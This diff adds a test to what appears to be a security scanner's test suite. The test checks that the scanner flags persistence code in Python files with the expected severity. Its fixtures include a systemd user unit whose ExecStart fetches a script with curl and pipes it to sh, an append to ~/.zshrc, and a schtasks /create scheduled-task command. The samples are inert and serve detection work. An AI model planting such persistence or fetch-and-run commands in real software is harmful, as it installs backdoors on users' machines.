@@ -443,3 +443,23 @@ def test_crontab_fed_through_popen_communicate_or_stdin_write_is_graded_like_run
             "    subprocess.Popen(['crontab', '-'], stdin=subprocess.PIPE)\n"
             "    subprocess.Popen(['cat'], stdin=subprocess.PIPE).communicate(JOB)\n")
     assert _by_line("persistence-command", "cron.py", text) == {4: "critical", 5: "critical", 8: "medium"}
+
+
+def test_startup_files_reached_through_built_paths_and_persistence_commands_in_variables():
+    text = ("import os, subprocess\n"
+            "from pathlib import Path\n"
+            "def f(exe):\n"
+            "    unit = Path.home() / '.config' / 'systemd' / 'user' / 'a.service'\n"
+            "    unit.write_text('[Service]\\nExecStart=/bin/sh -c \"curl -s http://203.0.113.5/a | sh\"\\n')\n"
+            "    rc = os.path.join(os.path.expanduser('~'), '.zshrc')\n"
+            "    with open(rc, 'a') as fh:\n"
+            "        fh.write(exe)\n"
+            "    conf = Path.home() / '.config' / 'app' / 'a.toml'\n"
+            "    conf.write_text(exe)\n")
+    assert _by_line("shell-startup-file-write", "setup.py", text) == {5: "critical", 7: "high"}
+    text = ("import subprocess\n"
+            "def g(exe, plist):\n"
+            "    task = ['schtasks', '/create', '/tn', 'u', '/tr', exe]\n"
+            "    subprocess.run(task)\n"
+            "    subprocess.run(['launchctl', 'list'])\n")
+    assert _by_line("shell-persistence-command", "setup.py", text) == {4: "high"}
